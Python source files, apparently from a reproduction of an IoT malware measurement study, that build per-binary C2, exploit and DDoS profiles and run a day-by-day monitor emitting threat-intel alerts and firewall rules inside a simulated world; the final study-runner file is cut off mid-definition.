        up to ``max_redispatch`` times; whatever still fails is recorded
        in :attr:`failed_shards` / :attr:`failures` and simply absent
        from the returned list.
        """
        global _FORK_WORLD
        if self._pending is None:
            raise RuntimeError("runner not started")
        pool, pending = self._pool, self._pending
        self._pool = self._pending = None
        results: dict[int, ShardResult] = {}
        attempt = 0
        try:
            while True:
                failures = self._collect(pending, results)
                if not failures:
                    pool.join()
                    break
                # a hung or half-dead wave cannot be drained politely
                pool.terminate()
                pool.join()
                self.failures.update(failures)
                attempt += 1
                if attempt > self.max_redispatch:
                    self.failed_shards = sorted(failures)
                    break
                # the parent world has been mutated since start() (the
                # probing campaign runs between start and join), so the
                # fork snapshot is stale — retry workers regenerate
                _FORK_WORLD = None
                self.redispatches += len(failures)
                pool = self._context.Pool(processes=len(failures),
                                          maxtasksperchild=1)
                pending = self._dispatch(pool, sorted(failures), attempt)
                pool.close()
        finally:
            _FORK_WORLD = None
        return [results[index] for index in sorted(results)]

    def run(self) -> list[ShardResult]:
        """Blocking convenience: :meth:`start` then :meth:`join`."""
        return self.start().join()
