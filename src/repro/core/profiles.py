"""Binary-centric network profiles — the paper's central artifact.

A :class:`BinaryNetworkProfile` is "the desired output" of the problem
statement (section 1): for one binary, its C2 communication, its
proliferation techniques, and its attacks, all attributed to that binary.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..botnet.protocols.base import AttackCommand


@dataclass
class ExploitObservation:
    """One exploit the binary used, recovered by the handshaker."""

    vuln_key: str
    loader: str | None
    downloader: str | None
    port: int
    payload: bytes = b""


@dataclass
class AttackObservation:
    """One DDoS command this binary received (and acted on)."""

    command: AttackCommand
    family_profile: str       # which protocol profile decoded it
    when: float
    verified: bool            # manual-verification checks passed
    via_heuristic: bool = False


@dataclass
class BinaryNetworkProfile:
    """Full network-level profile of one malware binary."""

    sha256: str
    published: float
    day: int                       # study day of collection
    source: str                    # "virustotal" | "malwarebazaar" | "both"
    family_label: str | None = None
    label_source: str = ""         # "yara" | "avclass" | ""
    activated: bool = False
    is_p2p: bool = False
    # -- C2 --------------------------------------------------------------
    c2_endpoint: str | None = None
    c2_port: int | None = None
    c2_is_dns: bool = False
    c2_live_on_day0: bool = False
    vt_flagged_day0: bool = False
    #: DGA schedule seed recovered from the binary (0 = static endpoint).
    #: compare=False: only set in opt-in --dga runs, and the plain-run
    #: golden digests must stay byte-identical.
    dga_seed: int = field(default=0, compare=False)
    # -- proliferation -----------------------------------------------------
    exploits: list[ExploitObservation] = field(default_factory=list)
    scan_ports: list[int] = field(default_factory=list)
    # -- attacks -------------------------------------------------------------
    attacks: list[AttackObservation] = field(default_factory=list)
    # -- degradation ---------------------------------------------------------
    #: analysis raised; this is a stub profile recording the failure
    quarantined: bool = False
    quarantine_reason: str = ""

    @property
    def has_c2(self) -> bool:
        return self.c2_endpoint is not None

    @property
    def has_exploits(self) -> bool:
        return bool(self.exploits)

    def summary_line(self) -> str:
        """One-line triage summary used by the report renderer."""
        if self.quarantined:
            return (f"{self.sha256[:12]} {self.family_label or '?':<10} "
                    f"QUARANTINED ({self.quarantine_reason})")
        c2 = self.c2_endpoint or ("P2P" if self.is_p2p else "-")
        return (
            f"{self.sha256[:12]} {self.family_label or '?':<10} "
            f"c2={c2} live={int(self.c2_live_on_day0)} "
            f"exploits={len(self.exploits)} attacks={len(self.attacks)}"
        )
