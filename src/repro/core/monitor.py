"""Continuous monitoring: MalNet as an always-on service (sections 1, 6a).

The paper's end state is not a one-off study but "a large-scale
continuous IoT malware monitoring infrastructure" whose outputs flow to
firewalls, ISPs and threat-intel exchanges — with *just-in-time* value:
two of the attack-issuing C2s were unknown to every TI feed on launch
day, so only someone listening live could have acted.

:class:`ContinuousMonitor` wraps the daily pipeline into that service
shape: call :meth:`tick` once per study day and receive typed alerts —
new C2 discovered, C2 unknown to threat intel, exploit seen for a
vulnerability, DDoS command eavesdropped — plus the incremental firewall
rules that should ship to subscribers that day.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from ..obs import NULL_TELEMETRY, Telemetry
from .firewall import FirewallRule, compile_rules
from .pipeline import MalNet, PipelineConfig


class AlertKind(enum.Enum):
    NEW_C2 = "new-c2"
    TI_BLIND_SPOT = "ti-blind-spot"      # C2 live but unknown to all feeds
    NEW_EXPLOIT = "new-exploit"          # first sighting of a vulnerability
    ATTACK_IN_PROGRESS = "attack"        # DDoS command eavesdropped live


@dataclass(frozen=True)
class Alert:
    """One actionable event emitted by the monitor."""

    kind: AlertKind
    day: int
    subject: str        # endpoint / vulnerability key / target
    detail: str

    def render(self) -> str:
        return f"[day {self.day:>3}] {self.kind.value:<14} {self.subject}: {self.detail}"


@dataclass
class DailyDigest:
    """Everything the service would push to subscribers for one day."""

    day: int
    alerts: list[Alert] = field(default_factory=list)
    new_rules: list[FirewallRule] = field(default_factory=list)
    profiles_analyzed: int = 0


class ContinuousMonitor:
    """Day-by-day streaming wrapper around the MalNet pipeline."""

    def __init__(self, world, config: PipelineConfig | None = None,
                 telemetry: Telemetry | None = None):
        self.telemetry = telemetry or NULL_TELEMETRY
        self.malnet = MalNet(world, config, telemetry=self.telemetry)
        self._known_c2s: set[str] = set()
        self._known_vulns: set[str] = set()
        self._seen_commands: set[tuple] = set()
        self._shipped_rules: set[tuple[str, str]] = set()
        self.digests: list[DailyDigest] = []
        metrics = self.telemetry.metrics
        self._m_alerts = metrics.counter(
            "monitor_alerts", "typed alerts pushed to subscribers",
            labelnames=("kind",))
        self._m_rules = metrics.counter(
            "monitor_rules_shipped", "incremental firewall/IDS rules shipped")

    # -- the daily tick ------------------------------------------------------

    def tick(self, day: int) -> DailyDigest:
        """Run one collection day and compute its alerts and rule delta."""
        with self.telemetry.tracer.span("monitor.tick", day=day):
            profiles = self.malnet.run_day(day)
            digest = DailyDigest(day=day, profiles_analyzed=len(profiles))
            for profile in profiles:
                self._c2_alerts(day, profile, digest)
                self._exploit_alerts(day, profile, digest)
                self._attack_alerts(day, profile, digest)
            self._rule_delta(digest)
        for alert in digest.alerts:
            self._m_alerts.labels(kind=alert.kind.value).inc()
            self.telemetry.events.emit(
                "monitor.alert", kind=alert.kind.value, day=day,
                subject=alert.subject, detail=alert.detail,
            )
        self._m_rules.inc(len(digest.new_rules))
        self.digests.append(digest)
        return digest

    def run(self, days: int) -> list[DailyDigest]:
        """Tick through ``days`` consecutive study days."""
        for day in range(days):
            self.tick(day)
        self.malnet.recheck_threat_intel()
        return self.digests

    # -- alert derivation -----------------------------------------------------

    def _c2_alerts(self, day: int, profile, digest: DailyDigest) -> None:
        if not profile.has_c2 or profile.c2_endpoint in self._known_c2s:
            return
        self._known_c2s.add(profile.c2_endpoint)
        digest.alerts.append(Alert(
            AlertKind.NEW_C2, day, profile.c2_endpoint,
            f"{profile.family_label or 'unknown'} C2 on port "
            f"{profile.c2_port}; live={profile.c2_live_on_day0}",
        ))
        if profile.c2_live_on_day0 and not profile.vt_flagged_day0:
            digest.alerts.append(Alert(
                AlertKind.TI_BLIND_SPOT, day, profile.c2_endpoint,
                "live C2 unknown to all 89 TI feeds — block it now",
            ))

    def _exploit_alerts(self, day: int, profile, digest: DailyDigest) -> None:
        for observation in profile.exploits:
            if observation.vuln_key in self._known_vulns:
                continue
            self._known_vulns.add(observation.vuln_key)
            digest.alerts.append(Alert(
                AlertKind.NEW_EXPLOIT, day, observation.vuln_key,
                f"first exploit sighting (loader {observation.loader}, "
                f"port {observation.port})",
            ))

    def _attack_alerts(self, day: int, profile, digest: DailyDigest) -> None:
        from ..netsim.addresses import int_to_ip

        for attack in profile.attacks:
            key = (profile.c2_endpoint, attack.command.method,
                   attack.command.target_ip, attack.command.target_port)
            if key in self._seen_commands:
                continue
            self._seen_commands.add(key)
            digest.alerts.append(Alert(
                AlertKind.ATTACK_IN_PROGRESS, day,
                int_to_ip(attack.command.target_ip),
                f"{attack.command.attack_type} ordered by "
                f"{profile.c2_endpoint} (duration "
                f"{attack.command.duration}s) — notify the victim's AS",
            ))

    def _rule_delta(self, digest: DailyDigest) -> None:
        bundle = compile_rules(self.malnet.datasets)
        for rule in bundle.rules:
            key = (rule.technology, rule.text)
            if key not in self._shipped_rules:
                self._shipped_rules.add(key)
                digest.new_rules.append(rule)

    # -- summaries ----------------------------------------------------------------

    @property
    def datasets(self):
        return self.malnet.datasets

    def alert_counts(self) -> dict[AlertKind, int]:
        counts: dict[AlertKind, int] = {}
        for digest in self.digests:
            for alert in digest.alerts:
                counts[alert.kind] = counts.get(alert.kind, 0) + 1
        return counts

    def time_to_first_rule(self, endpoint: str) -> int | None:
        """Study day on which a block rule for ``endpoint`` first shipped.

        Matches the rule's ``endpoint`` metadata, not a substring of its
        rendered text — ``"1.2.3.4"`` must not claim credit for a rule
        that blocks ``"11.2.3.45"``.
        """
        for digest in self.digests:
            for rule in digest.new_rules:
                if rule.endpoint == endpoint:
                    return digest.day
        return None
