"""One-call study runner: the daily pipeline plus the probing campaign."""

from __future__ import annotations

import random

from ..obs import NULL_TELEMETRY, Telemetry
from ..sandbox.qemu import MipsEmulator
from ..world.generator import World
from .datasets import Datasets
from .pipeline import MalNet, PipelineConfig
from .probing import ProbingCampaign


def select_probe_binaries(world: World) -> list[bytes]:
    """Pick the two weaponized samples (one Gafgyt, one Mirai, §2.3b).

    The study selected two of its collected samples; we pick the first
    activating sample of each family from the same corpus.
    """
    checker = MipsEmulator(random.Random(0))
    picks: list[bytes] = []
    for family in ("gafgyt", "mirai"):
        for planned in world.truth.all_samples:
            if planned.sample.family != family:
                continue
            if not checker.activates(planned.sample.sha256):
                continue
            picks.append(planned.sample.data)
            break
    return picks


def run_probing(world: World, malnet: MalNet,
                telemetry: Telemetry | None = None) -> ProbingCampaign:
    """Run the D-PC2 campaign and merge its observations."""
    campaign = ProbingCampaign(
        internet=world.internet,
        sandbox=malnet.sandbox,
        subnets=list(world.truth.probe_subnets),
        sample_binaries=select_probe_binaries(world),
        start=world.probe_start,
        days=world.scale.probe_days,
        telemetry=telemetry or malnet.telemetry,
    )
    campaign.run()
    malnet.datasets.d_pc2.extend(campaign.observations)
    return campaign


def run_study(
    world: World, config: PipelineConfig | None = None,
    telemetry: Telemetry | None = None,
) -> tuple[MalNet, ProbingCampaign, Datasets]:
    """Execute the complete measurement study on a generated world."""
    telemetry = telemetry or NULL_TELEMETRY
    malnet = MalNet(world, config, telemetry=telemetry)
    telemetry.events.emit("study.start", scale=world.scale.sample_fraction)
    with telemetry.tracer.span("study.pipeline"):
        malnet.run()
    with telemetry.tracer.span("study.probing"):
        campaign = run_probing(world, malnet, telemetry)
    telemetry.events.emit("study.complete", sizes=dict(malnet.datasets.summary()))
    return malnet, campaign, malnet.datasets
