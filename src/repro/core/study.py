"""One-call study runner: the daily pipeline plus the probing campaign.

``run_study(world, workers=N)`` shards the pipeline across N worker
processes (see :mod:`repro.core.parallel`); the default stays serial.
Both paths produce byte-identical :class:`~repro.core.datasets.Datasets`
for the same ``(seed, scale)``.
"""

from __future__ import annotations

import dataclasses
import os
import random
import time

from ..determinism import stable_seed
from ..obs import NULL_TELEMETRY, Telemetry, build_manifest
from ..obs.merge import merge_shard_telemetry
from ..sandbox.qemu import MipsEmulator
from ..world.generator import World
from .cache import CachedStudy, StudyCache, code_fingerprint, study_fingerprint
from .datasets import Datasets
from .parallel import ShardedStudyRunner
from .pipeline import MalNet, PipelineConfig
from .probing import ProbingCampaign

#: parallel-width ceiling for ``workers="auto"`` — the envelope the
#: serial == merged-parallel invariant is exercised against in CI
AUTO_WORKERS_MAX = 4


def resolve_workers(workers) -> int | None:
    """Resolve the ``workers`` argument; ``"auto"`` fits the machine."""
    if workers != "auto":
        return workers
    try:
        cpus = len(os.sched_getaffinity(0))
    except AttributeError:  # pragma: no cover - non-Linux
        cpus = os.cpu_count() or 1
    workers = min(AUTO_WORKERS_MAX, cpus)
    return workers if workers > 1 else None


def select_probe_binaries(world: World) -> list[bytes]:
    """Pick the two weaponized samples (one Gafgyt, one Mirai, §2.3b).

    The study selected two of its collected samples; we pick the first
    activating sample of each family from the same corpus.
    """
    # derived from the world seed, not a hard-coded Random(0): a study is
    # a function of its seed, and every RNG it touches must trace back to
    # it (the activation coin itself is hash-based either way)
    checker = MipsEmulator(
        random.Random(stable_seed("probe-binary-check", world.seed)))
    picks: list[bytes] = []
    for family in ("gafgyt", "mirai"):
        for planned in world.truth.all_samples:
            if planned.sample.family != family:
                continue
            if not checker.activates(planned.sample.sha256):
                continue
            picks.append(planned.sample.data)
            break
    return picks


def run_probing(world: World, malnet: MalNet,
                telemetry: Telemetry | None = None) -> ProbingCampaign:
    """Run the D-PC2 campaign and merge its observations."""
    campaign = ProbingCampaign(
        internet=world.internet,
        sandbox=malnet.sandbox,
        subnets=list(world.truth.probe_subnets),
        sample_binaries=select_probe_binaries(world),
        start=world.probe_start,
        days=world.scale.probe_days,
        telemetry=telemetry or malnet.telemetry,
        world_seed=world.seed,
    )
    campaign.run()
    malnet.datasets.d_pc2.extend(campaign.observations)
    return campaign


def _run_parallel(
    world: World, malnet: MalNet, workers: int, telemetry: Telemetry,
    shard_timeout: float | None = 600.0, max_redispatch: int = 2,
) -> tuple[ProbingCampaign, dict]:
    """Sharded pipeline in a worker pool, probing overlapped in the parent.

    The campaign only reads world state the pipeline never writes (host
    online windows, listener tables, per-server responsiveness chains are
    all slot-indexed), and reseeds the internet RNG per slot — so the
    parent can run it concurrently with the pool and still produce the
    same observations as the serial ordering.

    Returns the campaign plus a run-info dict (per-shard timings,
    re-dispatch and failure accounting) consumed by the manifest.
    """
    runner = ShardedStudyRunner(world, workers, config=malnet.config,
                                shard_timeout=shard_timeout,
                                max_redispatch=max_redispatch,
                                telemetry_enabled=telemetry.enabled)
    with telemetry.tracer.span("study.pipeline", workers=workers) \
            as pipeline_span:
        runner.start()
        with telemetry.tracer.span("study.probing"):
            campaign = run_probing(world, malnet, telemetry)
        shards = runner.join()
    if runner.redispatches:
        telemetry.metrics.counter(
            "shard_redispatches",
            "failed shard tasks re-dispatched to a fresh pool",
        ).inc(runner.redispatches)
        telemetry.events.warning(
            "study.shard_redispatched", count=runner.redispatches,
            failures={str(k): v for k, v in runner.failures.items()})
    merged = Datasets.merge([shard.datasets for shard in shards])
    merged.d_pc2 = list(malnet.datasets.d_pc2)
    merged.failed_shards = list(runner.failed_shards)
    if runner.failed_shards:
        telemetry.metrics.counter(
            "shards_failed", "shards with no result after every "
            "re-dispatch wave (partial merge)",
        ).inc(len(runner.failed_shards))
        telemetry.events.warning(
            "study.partial_merge", failed_shards=runner.failed_shards,
            workers=workers,
            failures={str(k): runner.failures[k]
                      for k in runner.failed_shards})
    malnet.datasets = merged
    # c2/ddos records are deduplicated across shards, so their creation
    # counters cannot be summed — the merge excludes them and re-counts
    # the merged records instead, which is exactly what the serial run
    # would have counted.  World-global series (feed pulls precede the
    # shard filter) are taken from the first reporting shard only.
    deduplicated = ("c2_records", "ddos_records")
    for position, shard in enumerate(shards):
        merge_shard_telemetry(
            telemetry, shard.shard_index,
            metrics_snapshot=shard.counters,
            trace_snapshot=shard.spans,
            events_snapshot=shard.events,
            parent_span=pipeline_span if telemetry.tracer.enabled else None,
            wall_seconds=shard.wall_seconds,
            attempt=shard.attempt,
            exclude_counters=deduplicated,
            world_global=(position == 0),
        )
    metrics = telemetry.metrics
    metrics.counter("c2_records").inc(len(merged.d_c2s))
    metrics.counter("ddos_records").inc(len(merged.d_ddos))
    run_info = {
        "shards": [
            {"shard": shard.shard_index, "attempt": shard.attempt,
             "wall_seconds": round(shard.wall_seconds, 6),
             "sizes": dict(shard.datasets.summary())}
            for shard in shards
        ],
        "redispatches": runner.redispatches,
        "failed_shards": list(runner.failed_shards),
        "failures": {str(k): runner.failures[k]
                     for k in runner.failed_shards},
    }
    return campaign, run_info


def _build_run_manifest(
    world: World, config: PipelineConfig | None, telemetry: Telemetry,
    datasets: Datasets, *, workers: int | None, cache: StudyCache | None,
    fingerprint: str | None, cached: bool, started: float,
    wall_seconds: float, run_info: dict | None,
) -> dict:
    """Assemble the flight-recorder manifest for one finished run."""
    effective = config or PipelineConfig()
    plan = effective.faults
    if fingerprint is None and world.seed is not None:
        fingerprint = study_fingerprint(world.seed, world.scale, config)
    study = {
        "seed": world.seed,
        "scale": dataclasses.asdict(world.scale),
        "workers": workers or 0,
        "faults": dataclasses.asdict(plan) if plan is not None else None,
        "config": dataclasses.asdict(effective),
        "code_fingerprint": code_fingerprint(),
        "study_fingerprint": fingerprint,
    }
    info = run_info or {}
    run = {
        "started": started,
        "finished": time.time(),
        "wall_seconds": round(wall_seconds, 6),
        "cached": cached,
        "redispatches": info.get("redispatches", 0),
    }
    phases = {name: stats
              for name, stats in telemetry.tracer.aggregate().items()
              if name.startswith("study.")}
    cache_info: dict = {"enabled": cache is not None}
    if cache is not None:
        cache_info.update(hit=cached, hits=cache.hits, misses=cache.misses,
                          rejected=cache.rejected)
    quarantined = [
        {"sha256": p.sha256, "day": p.day, "reason": p.quarantine_reason}
        for p in datasets.profiles if p.quarantined
    ]
    return build_manifest(
        study=study, run=run, phases=phases, cache=cache_info,
        shards=info.get("shards"),
        quarantined=quarantined,
        failed_shards=info.get("failed_shards",
                               list(datasets.failed_shards)),
        datasets=dict(datasets.summary()),
        extra=({"failures": info["failures"]}
               if info.get("failures") else None),
    )


def _restore_study(
    world: World, config: PipelineConfig | None, telemetry: Telemetry,
    entry: CachedStudy,
) -> tuple[MalNet, ProbingCampaign, Datasets]:
    """Rebuild the (malnet, campaign, datasets) triple from a cache hit.

    The campaign's observations and discovery set are restored verbatim,
    so its derived views (``response_matrix``, repeat-response rate) are
    the ones a fresh run would compute.
    """
    malnet = MalNet(world, config, telemetry=telemetry)
    malnet.datasets = entry.datasets
    campaign = ProbingCampaign(
        internet=world.internet,
        sandbox=malnet.sandbox,
        subnets=list(world.truth.probe_subnets),
        sample_binaries=[],
        start=world.probe_start,
        days=world.scale.probe_days,
        telemetry=telemetry,
        world_seed=world.seed,
    )
    campaign.observations = list(entry.observations)
    campaign.discovered = set(entry.discovered)
    return malnet, campaign, malnet.datasets


def run_study(
    world: World, config: PipelineConfig | None = None,
    telemetry: Telemetry | None = None, workers=None,
    shard_timeout: float | None = 600.0, max_redispatch: int = 2,
    cache: StudyCache | str | None = None,
) -> tuple[MalNet, ProbingCampaign, Datasets]:
    """Execute the complete measurement study on a generated world.

    ``workers=None`` (or 0) runs everything in-process; ``workers=N`` for
    N >= 1 shards the daily pipeline over N processes and merges, with
    identical results; ``workers="auto"`` picks a width that fits the
    machine.  ``shard_timeout``/``max_redispatch`` bound how long a lost
    shard worker is waited for and how often it is retried (see
    :class:`~repro.core.parallel.ShardedStudyRunner`); shards that still
    fail are reported in ``datasets.failed_shards``.

    ``cache`` (a :class:`~repro.core.cache.StudyCache` or a directory
    path) short-circuits the whole run when an entry for this exact
    (seed, scale, config, code version) exists — the returned datasets
    and observations are byte-identical to a fresh run's.  Partial
    results (failed shards) are never cached.
    """
    telemetry = telemetry or NULL_TELEMETRY
    workers = resolve_workers(workers)
    started = time.time()
    started_clock = time.perf_counter()
    if isinstance(cache, (str, os.PathLike)):
        cache = StudyCache(cache)
    if cache is not None:
        cache.bind_metrics(telemetry.metrics)
    fingerprint = None
    if cache is not None and world.seed is not None:
        fingerprint = study_fingerprint(world.seed, world.scale, config)
        entry = cache.get(fingerprint)
        if entry is not None:
            telemetry.events.emit("study.cache_hit", fingerprint=fingerprint)
            result = _restore_study(world, config, telemetry, entry)
            if telemetry.enabled:
                telemetry.manifest = _build_run_manifest(
                    world, config, telemetry, result[2], workers=workers,
                    cache=cache, fingerprint=fingerprint, cached=True,
                    started=started,
                    wall_seconds=time.perf_counter() - started_clock,
                    run_info=None)
            telemetry.events.emit(
                "study.complete", sizes=dict(result[2].summary()))
            return result
    malnet = MalNet(world, config, telemetry=telemetry)
    telemetry.events.emit("study.start", scale=world.scale.sample_fraction,
                          workers=workers or 0)
    run_info = None
    if workers:
        campaign, run_info = _run_parallel(world, malnet, workers, telemetry,
                                           shard_timeout=shard_timeout,
                                           max_redispatch=max_redispatch)
    else:
        with telemetry.tracer.span("study.pipeline"):
            malnet.run()
        with telemetry.tracer.span("study.probing"):
            campaign = run_probing(world, malnet, telemetry)
    if fingerprint is not None and not malnet.datasets.failed_shards:
        cache.put(fingerprint, CachedStudy(
            datasets=malnet.datasets,
            observations=campaign.observations,
            discovered=campaign.discovered,
        ))
        telemetry.events.emit("study.cache_store", fingerprint=fingerprint)
    if telemetry.enabled:
        telemetry.manifest = _build_run_manifest(
            world, config, telemetry, malnet.datasets, workers=workers,
            cache=cache, fingerprint=fingerprint, cached=False,
            started=started,
            wall_seconds=time.perf_counter() - started_clock,
            run_info=run_info)
    telemetry.events.emit("study.complete",
                          sizes=dict(malnet.datasets.summary()))
    return malnet, campaign, malnet.datasets
