"""One-call study runner: the daily pipeline plus the probing campaign.

``run_study(world, workers=N)`` shards the pipeline across N worker
processes (see :mod:`repro.core.parallel`); the default stays serial.
Both paths produce byte-identical :class:`~repro.core.datasets.Datasets`
for the same ``(seed, scale)``.
"""

from __future__ import annotations

import dataclasses
import os
import random
import time

from ..determinism import stable_seed
from ..obs import NULL_TELEMETRY, Telemetry, build_manifest
from ..obs.merge import merge_shard_telemetry
from ..sandbox.qemu import MipsEmulator
from ..world.generator import World
from .cache import CachedStudy, StudyCache, code_fingerprint, study_fingerprint
from .datasets import Datasets
from .parallel import ShardedStudyRunner
from .pipeline import MalNet, PipelineConfig, total_study_days
from .probing import ProbingCampaign

#: parallel-width ceiling for ``workers="auto"`` — the envelope the
#: serial == merged-parallel invariant is exercised against in CI
AUTO_WORKERS_MAX = 4


def resolve_workers(workers) -> int | None:
    """Resolve the ``workers`` argument; ``"auto"`` fits the machine."""
    if workers != "auto":
        return workers
    try:
        cpus = len(os.sched_getaffinity(0))
    except AttributeError:  # pragma: no cover - non-Linux
        cpus = os.cpu_count() or 1
    workers = min(AUTO_WORKERS_MAX, cpus)
    return workers if workers > 1 else None


def select_probe_binaries(world: World) -> list[bytes]:
    """Pick the two weaponized samples (one Gafgyt, one Mirai, §2.3b).

    The study selected two of its collected samples; we pick the first
    activating sample of each family from the same corpus.
    """
    # derived from the world seed, not a hard-coded Random(0): a study is
    # a function of its seed, and every RNG it touches must trace back to
    # it (the activation coin itself is hash-based either way)
    checker = MipsEmulator(
        random.Random(stable_seed("probe-binary-check", world.seed)))
    picks: list[bytes] = []
    for family in ("gafgyt", "mirai"):
        for planned in world.truth.all_samples:
            if planned.sample.family != family:
                continue
            if not checker.activates(planned.sample.sha256):
                continue
            picks.append(planned.sample.data)
            break
    return picks


def run_probing(world: World, malnet: MalNet,
                telemetry: Telemetry | None = None) -> ProbingCampaign:
    """Run the D-PC2 campaign and merge its observations."""
    campaign = ProbingCampaign(
        internet=world.internet,
        sandbox=malnet.sandbox,
        subnets=list(world.truth.probe_subnets),
        sample_binaries=select_probe_binaries(world),
        start=world.probe_start,
        days=world.scale.probe_days,
        telemetry=telemetry or malnet.telemetry,
        world_seed=world.seed,
    )
    campaign.run()
    malnet.datasets.d_pc2.extend(campaign.observations)
    return campaign


def _build_campaign(world: World, malnet: MalNet, telemetry: Telemetry,
                    observations, discovered) -> ProbingCampaign:
    """Reconstruct a finished probing campaign from its saved results.

    The observations list and discovery set are adopted verbatim, so the
    campaign's derived views (``response_matrix``, repeat-response rate)
    are the ones a fresh run would compute.
    """
    campaign = ProbingCampaign(
        internet=world.internet,
        sandbox=malnet.sandbox,
        subnets=list(world.truth.probe_subnets),
        sample_binaries=[],
        start=world.probe_start,
        days=world.scale.probe_days,
        telemetry=telemetry,
        world_seed=world.seed,
    )
    campaign.observations = list(observations)
    campaign.discovered = set(discovered)
    return campaign


class DayRunner:
    """Day-granular, resumable execution of one study.

    The daily pipeline already advances in day units
    (:meth:`MalNet.run_day`); this runner owns the loop so execution can
    stop between any two days, snapshot the cross-day state (dedup set,
    feed cursors, datasets — :meth:`MalNet.state_snapshot`), and
    continue later: in the same process, or after a full restart via
    :class:`repro.service.state.CheckpointStore`.  The invariant carried
    over from the sharded runner — per-sample analysis is a pure
    function of ``(world seed, sha256)`` — is exactly what makes the
    resumed run byte-identical to an uninterrupted one.

    ``shards=N`` partitions samples by sha256 across N in-process
    pipelines (each against its own regenerated world, the same model a
    pool worker uses) and merges with :meth:`Datasets.merge`; results
    are byte-identical to the serial run for any N.  A separate *front*
    pipeline — a ``MalNet`` that never analyzes samples — hosts the
    merged datasets, the TI re-query view, and the probing campaign,
    mirroring the parent process of ``run_study(workers=N)``.

    Lifecycle::

        runner = DayRunner(seed=7, scale=SMOKE_SCALE)
        while not runner.pipeline_done:
            runner.run_next_day()          # one feed-day increment
        runner.complete_pipeline()          # TI re-query + shard merge
        campaign = runner.run_probing_phase()
        datasets = runner.datasets          # == run_study(...)[2]
    """

    def __init__(self, world: World | None = None,
                 config: PipelineConfig | None = None,
                 telemetry: Telemetry | None = None,
                 shards: int = 1,
                 seed: int | None = None, scale=None):
        if shards < 1:
            raise ValueError("shards must be >= 1")
        if world is None:
            if seed is None or scale is None:
                raise ValueError(
                    "DayRunner needs a generated world or (seed, scale)")
            from ..world import generate_world

            world = generate_world(seed=seed, scale=scale)
        if shards > 1 and world.seed is None:
            raise ValueError(
                "sharded day-granular execution needs a seeded world: "
                "shard pipelines regenerate it from (seed, scale)")
        self.world = world
        self.config = config or PipelineConfig()
        self.telemetry = telemetry or NULL_TELEMETRY
        self.shards = shards
        if shards == 1:
            self.malnets = [MalNet(world, config, telemetry=self.telemetry)]
            self.front = self.malnets[0]
        else:
            from ..world import generate_world

            self.malnets = []
            for index in range(shards):
                shard_world = generate_world(seed=world.seed,
                                             scale=world.scale)
                shard_config = dataclasses.replace(
                    self.config, shard_index=index, shard_count=shards)
                self.malnets.append(
                    MalNet(shard_world, shard_config,
                           telemetry=self.telemetry))
            # the front pipeline plays the parent process of the sharded
            # runner: it analyzes nothing, hosts the merged datasets, and
            # runs the probing campaign against the caller's world
            self.front = MalNet(world, config, telemetry=self.telemetry)
        self.total_days = total_study_days(self.config)
        #: first study day not yet executed (== count of completed days)
        self.next_day = 0
        self.campaign: ProbingCampaign | None = None
        self._completed = False
        self._merged_cache: tuple[int, Datasets] | None = None

    # -- progress ----------------------------------------------------------

    @property
    def pipeline_done(self) -> bool:
        return self.next_day >= self.total_days

    @property
    def finalized(self) -> bool:
        """True once the TI re-query, merge, and probing have all run."""
        return self.campaign is not None

    @property
    def datasets(self) -> Datasets:
        """Current merged view of everything ingested so far.

        After :meth:`complete_pipeline` this is *the* study output; at a
        day boundary mid-study it is the exact prefix a monolithic run
        would have accumulated by that day.
        """
        if self.shards == 1 or self._completed:
            return self.front.datasets
        cached = self._merged_cache
        if cached is not None and cached[0] == self.next_day:
            return cached[1]
        merged = Datasets.merge([m.datasets for m in self.malnets])
        self._merged_cache = (self.next_day, merged)
        return merged

    # -- execution ---------------------------------------------------------

    def run_next_day(self) -> dict:
        """Execute one feed-day across every shard pipeline."""
        if self.pipeline_done:
            raise RuntimeError(
                f"all {self.total_days} study days already ingested")
        day = self.next_day
        profiled = 0
        for malnet in self.malnets:
            profiled += len(malnet.run_day(day))
        self.next_day = day + 1
        return {"day": day, "profiled": profiled,
                "remaining": self.total_days - self.next_day}

    def run_remaining_days(self) -> None:
        while not self.pipeline_done:
            self.run_next_day()

    def complete_pipeline(self) -> Datasets:
        """Close the day loop: TI re-query per shard, then the merge."""
        if not self.pipeline_done:
            raise RuntimeError(
                f"{self.total_days - self.next_day} study days still "
                "pending; ingest them before completing the pipeline")
        if self._completed:
            return self.front.datasets
        for malnet in self.malnets:
            malnet.complete()
        if self.shards > 1:
            self.front.datasets = Datasets.merge(
                [m.datasets for m in self.malnets])
        self._completed = True
        return self.front.datasets

    def run_probing_phase(self) -> ProbingCampaign:
        """The D-PC2 campaign; extends the merged datasets' ``d_pc2``."""
        if self.campaign is None:
            if not self._completed:
                self.complete_pipeline()
            self.campaign = run_probing(self.front.world, self.front,
                                        self.telemetry)
        return self.campaign

    def finalize(self) -> ProbingCampaign:
        """Convenience: :meth:`complete_pipeline` + probing, with the
        same study-phase spans the batch runner emits."""
        if self.campaign is None:
            with self.telemetry.tracer.span("study.pipeline"):
                self.complete_pipeline()
            with self.telemetry.tracer.span("study.probing"):
                self.run_probing_phase()
        return self.campaign

    # -- checkpointing -----------------------------------------------------

    def state_snapshot(self) -> dict:
        """Picklable snapshot of everything a restart cannot re-derive.

        World content is *not* included — a restarted runner regenerates
        it from ``(seed, scale)`` — only the cross-day pipeline state of
        every shard, plus the finalized results once probing ran.
        """
        state = {
            "shards": self.shards,
            "next_day": self.next_day,
            "total_days": self.total_days,
            "shard_states": [m.state_snapshot() for m in self.malnets],
            "completed": self._completed,
        }
        if self.campaign is not None:
            state["front_datasets"] = self.front.datasets
            state["observations"] = self.campaign.observations
            state["discovered"] = self.campaign.discovered
        return state

    def restore_state(self, state: dict) -> None:
        """Adopt a :meth:`state_snapshot`; the runner must have been
        constructed with the same (seed, scale, config, shards)."""
        if state["shards"] != self.shards:
            raise ValueError(
                f"checkpoint was taken with shards={state['shards']}, "
                f"this runner has shards={self.shards}")
        if state["total_days"] != self.total_days:
            raise ValueError(
                f"checkpoint covers {state['total_days']} study days, "
                f"this runner's config asks for {self.total_days}")
        for malnet, shard_state in zip(self.malnets, state["shard_states"]):
            malnet.restore_state(shard_state)
        self.next_day = state["next_day"]
        self._completed = state["completed"]
        self._merged_cache = None
        if "observations" in state:
            self.front.datasets = state["front_datasets"]
            self.campaign = _build_campaign(
                self.front.world, self.front, self.telemetry,
                state["observations"], state["discovered"])


def _run_parallel(
    world: World, malnet: MalNet, workers: int, telemetry: Telemetry,
